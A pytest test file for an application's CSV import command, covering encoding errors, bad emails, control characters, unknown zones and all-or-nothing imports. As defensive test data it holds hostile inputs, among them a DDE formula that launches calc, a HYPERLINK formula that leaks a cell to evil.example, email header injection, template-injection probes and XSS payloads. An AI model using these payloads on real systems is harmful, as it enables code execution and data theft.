"""Bad CSV imports (participants, coordinators, partnerships): each is refused with exit 2, a
message naming file, line and field, and the database unchanged; or it is accepted and stored
exactly as the file gave it (formula-like and markup-like names are text, never evaluated)."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.bad_input.common import PEOPLE, ROUND, Cli, accepted, refused, write
from tests.conftest import Project

HEADERS = {
    "participants": "email,name,country,timezone,language\n",
    "coordinators": "email,name,role,countries,timezone\n",
    "partnerships": "round,member_a,member_b\n",
}
GOOD_ROWS = {
    "participants": "zoe@example.org,Zoë Ngata,NZ,Pacific/Auckland,en\n",
    "coordinators": "ruth@example.org,Ruth Ames,country,FR NZ,Europe/Paris\n",
    "partnerships": f"{ROUND},ann@example.org,bob@example.org\n",
}
MEGABYTE = "x" * (1024 * 1024)


def row(kind: str, **fields: str) -> str:
    """The good row of ``kind`` with some fields replaced (quoted as CSV when they need it)."""
    names = HEADERS[kind].strip().split(",")
    values = dict(zip(names, GOOD_ROWS[kind].strip().split(","), strict=True)) | fields
    quoted = [
        '"' + v.replace('"', '""') + '"' if any(c in v for c in ',"\r\n') else v
        for v in values.values()
    ]
    return ",".join(quoted) + "\n"


def import_args(kind: str, path: Path) -> list[object]:
    return ["import", kind, path]


# (id, kind, file content, expected texts on stderr); the file is named KIND.csv.
REFUSED: list[tuple[str, str, str | bytes, tuple[str, ...]]] = []
for _kind, _first in (("participants", "name"), ("coordinators", "name"), ("partnerships", None)):
    _header = HEADERS[_kind]
    REFUSED += [
        (
            f"{_kind}-latin-1",
            _kind,
            (_header + GOOD_ROWS[_kind] + "# Amélie\n").encode("latin-1"),
            (f"{_kind}.csv:3: not UTF-8: byte 0xe9",),
        ),
        (
            f"{_kind}-nul-byte",
            _kind,
            _header + GOOD_ROWS[_kind].replace("@", "\0@", 1),
            (f"{_kind}.csv:2:", "contains a NUL character"),
        ),
        (
            f"{_kind}-one-megabyte-field",
            _kind,
            _header + GOOD_ROWS[_kind] + GOOD_ROWS[_kind].replace("example", MEGABYTE, 1),
            (f"{_kind}.csv:3: a field is too long",),
        ),
        (
            f"{_kind}-duplicate-header",
            _kind,
            _header.strip() + "," + _header.split(",")[1] + "\n" + GOOD_ROWS[_kind],
            (f"{_kind}.csv:1:", "duplicate column"),
        ),
        (
            f"{_kind}-missing-header",
            _kind,
            GOOD_ROWS[_kind] * 2,
            (f"{_kind}.csv:1:1:", "unknown column", "required column is missing"),
        ),
        (
            f"{_kind}-only-a-header-line-of-blanks",
            _kind,
            ",,,\n" + GOOD_ROWS[_kind],
            (f"{_kind}.csv:1:", "first line is blank"),
        ),
    ]
    _email = "member_a" if _kind == "partnerships" else "email"
    REFUSED += [
        (
            f"{_kind}-email-with-display-name",
            _kind,
            _header + row(_kind, **{_email: "Ann <ann@example.org>"}),
            (f"{_kind}.csv:2:", f"{_email}: not a valid email address"),
        ),
        (
            f"{_kind}-email-with-space",
            _kind,
            _header + row(_kind, **{_email: "ann dupont@example.org"}),
            (f"{_kind}.csv:2:", f"{_email}: not a valid email address"),
        ),
        (
            f"{_kind}-two-emails-in-one-field",
            _kind,
            _header + row(_kind, **{_email: "ann@example.org, bob@example.org"}),
            (f"{_kind}.csv:2:", f"{_email}: not a valid email address"),
        ),
    ]
    if _first is not None:
        for _label, _bad, _says in (
            ("line-feed", "Ann\nInjected: yes", "contains a line break"),
            ("carriage-return", "Ann\rBcc: x@evil.example", "contains a line break"),
            ("crlf", "Ann\r\nBcc: x@evil.example", "contains a line break"),
            ("line-separator", "Ann\u2028Dupont", "contains a control character (U+2028)"),
            ("paragraph-separator", "Ann\u2029Dupont", "contains a control character (U+2029)"),
            ("next-line-c1", "Ann\x85Dupont", "contains a control character (U+0085)"),
            ("rtl-override", "Ann \u202eredoC\u202c", "contains a text-direction control (U+202E)"),
            ("ltr-isolate", "Ann\u2066Dupont", "contains a text-direction control (U+2066)"),
        ):
            REFUSED.append(
                (
                    f"{_kind}-name-{_label}",
                    _kind,
                    _header + row(_kind, name=_bad),
                    (f"{_kind}.csv:2:2: name: {_says}",),
                )
            )
REFUSED += [
    (
        "participants-unknown-zone",
        "participants",
        HEADERS["participants"] + row("participants", timezone="Mars/Olympus"),
        ("participants.csv:2:4: timezone: unknown time zone 'Mars/Olympus'",),
    ),
    (
        "participants-offset-zone",
        "participants",
        HEADERS["participants"] + row("participants", timezone="UTC+2"),
        ("participants.csv:2:4: timezone: unknown time zone 'UTC+2'",),
    ),
    (
        "participants-empty-zone",
        "participants",
        HEADERS["participants"] + row("participants", timezone=""),
        ("participants.csv:2:4: timezone: must not be empty",),
    ),
    (
        "participants-country-alpha-3",
        "participants",
        HEADERS["participants"] + row("participants", country="NZL"),
        ("participants.csv:2:3: country: unknown country code 'NZL'",),
    ),
    (
        "participants-country-unassigned",
        "participants",
        HEADERS["participants"] + row("participants", country="zz"),
        ("participants.csv:2:3: country: unknown country code 'zz'",),
    ),
    (
        "coordinators-unknown-zone",
        "coordinators",
        HEADERS["coordinators"] + row("coordinators", timezone="Europe/Atlantis"),
        ("coordinators.csv:2:5: timezone: unknown time zone 'Europe/Atlantis'",),
    ),
    (
        "coordinators-lower-case-invalid-country",
        "coordinators",
        HEADERS["coordinators"] + row("coordinators", countries="fr zz"),
        ("coordinators.csv:2:4: countries: unknown country code 'zz'",),
    ),
    (
        "partnerships-formula-in-round",
        "partnerships",
        HEADERS["partnerships"] + row("partnerships", round="=cmd|' /C calc'!A0"),
        ("partnerships.csv:2:1: round: no such round \"=cmd|' /C calc'!A0\"",),
    ),
]


@pytest.mark.parametrize(
    ("kind", "content", "expected"), [c[1:] for c in REFUSED], ids=[c[0] for c in REFUSED]
)
def test_bad_csv_is_refused_and_changes_nothing(
    seeded: Project, cli: Cli, kind: str, content: str | bytes, expected: tuple[str, ...]
) -> None:
    """A bad CSV file exits 2 naming file, line and field, and the database is unchanged."""
    path = write(seeded, f"{kind}.csv", content)
    refused(seeded, cli, import_args(kind, path), expected)


@pytest.fixture(scope="module")
def hundred_thousand_rows(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """100,000 good participant rows and a bad one at the end (line 100,002), written once."""
    path = tmp_path_factory.mktemp("big") / "participants.csv"
    rows = "".join(f"p{n}@example.org,Person {n},FR,Europe/Paris,fr\n" for n in range(100_000))
    bad = "last@example.org,Last One,FR,Europe/Paris,xx\n"
    path.write_text(HEADERS["participants"] + rows + bad, encoding="utf-8")
    return path


def test_one_bad_row_after_100k_good_ones_writes_nothing(
    seeded: Project, cli: Cli, hundred_thousand_rows: Path
) -> None:
    """All or nothing: 100,000 good rows and one bad last row import nothing at all."""
    refused(
        seeded,
        cli,
        import_args("participants", hundred_thousand_rows),
        ("participants.csv:100002:5: language: unknown language 'xx'",),
    )
    assert seeded.scalar("SELECT count(*) FROM participant") == 3


def _participants(project: Project) -> dict[str, tuple[str, str, str]]:
    rows = project.rows("SELECT email, name, country, timezone FROM participant")
    return {r["email"]: (r["name"], r["country"], r["timezone"]) for r in rows}


@pytest.mark.parametrize(
    ("label", "encode"),
    [
        ("bom-crlf", lambda text: b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode()),
        ("bom-lf", lambda text: b"\xef\xbb\xbf" + text.encode()),
        ("crlf", lambda text: text.replace("\n", "\r\n").encode()),
        ("mixed-line-ends", lambda text: text.replace("\n", "\r\n", 2).encode()),
    ],
)
def test_bom_and_line_endings_import_the_same(
    blank: Project, cli: Cli, label: str, encode: object
) -> None:
    """A UTF-8 BOM and CRLF or mixed line endings give exactly what a plain LF file gives."""
    path = write(blank, f"{label}.csv", encode(PEOPLE))  # type: ignore[operator]
    accepted(blank, cli, ["import", "participants", path])
    assert _participants(blank) == {
        "ann@example.org": ("Ann Dupont", "FR", "Europe/Paris"),
        "bob@example.org": ("Bob Tane", "NZ", "Pacific/Auckland"),
        "eve@example.org": ("Eve Otieno", "KE", "Africa/Nairobi"),
    }
    again = accepted(blank, cli, ["import", "participants", write(blank, "lf.csv", PEOPLE)])
    assert again.out == "participants: 0 created, 0 updated, 3 unchanged\n"


def test_bom_and_crlf_in_coordinators_and_partnerships(seeded: Project, cli: Cli) -> None:
    """Coordinator and partnership files saved with a BOM and CRLF import as usual."""
    for kind in ("coordinators", "partnerships"):
        data = b"\xef\xbb\xbf" + (HEADERS[kind] + GOOD_ROWS[kind]).replace("\n", "\r\n").encode()
        result = accepted(seeded, cli, ["import", kind, write(seeded, f"{kind}.csv", data)])
        assert result.out.startswith(f"{kind}: 1 created")
    assert seeded.rows("SELECT email, countries, timezone FROM coordinator") == [
        {"email": "ruth@example.org", "countries": "FR NZ", "timezone": "Europe/Paris"}
    ]


HOSTILE_NAMES = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "{{ 7*7 }}",
    "{% raw %}{{ config }}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "\u0644\u064a\u0644\u0649 \u062d\u062f\u0627\u062f",  # Arabic: no direction controls needed
    "Ann Dupont \u200f(\u05d3\u05e0\u05d4)",  # a right-to-left mark is allowed
]


def test_formula_and_markup_names_are_stored_as_given(blank: Project, cli: Cli) -> None:
    """Names that look like spreadsheet formulas, templates or HTML are plain text, kept as is."""
    header = HEADERS["participants"]
    rows = "".join(
        row("participants", email=f"p{n}@example.org", name=name)
        for n, name in enumerate(HOSTILE_NAMES)
    )
    path = write(blank, "participants.csv", header + rows)
    accepted(blank, cli, ["import", "participants", path])
    stored = _participants(blank)
    assert [stored[f"p{n}@example.org"][0] for n in range(len(HOSTILE_NAMES))] == HOSTILE_NAMES
    coordinators = HEADERS["coordinators"] + row("coordinators", name=HOSTILE_NAMES[0])
    accepted(blank, cli, ["import", "coordinators", write(blank, "c.csv", coordinators)])
    assert blank.scalar("SELECT name FROM coordinator") == HOSTILE_NAMES[0]


def test_loose_but_unambiguous_values_are_normalized(blank: Project, cli: Cli) -> None:
    """Lower-case country codes and zones, and an address with spaces around it, are accepted
    in their canonical spelling."""
    text = HEADERS["participants"] + row(
        "participants", email="  Zoe@Example.ORG ", country="nz", timezone="pacific/auckland"
    )
    accepted(blank, cli, ["import", "participants", write(blank, "p.csv", text)])
    assert _participants(blank) == {"zoe@example.org": ("Zoë Ngata", "NZ", "Pacific/Auckland")}
    text = HEADERS["coordinators"] + row("coordinators", countries="fr,nz;  ke")
    accepted(blank, cli, ["import", "coordinators", write(blank, "c.csv", text)])
    assert blank.scalar("SELECT countries FROM coordinator") == "FR NZ KE"
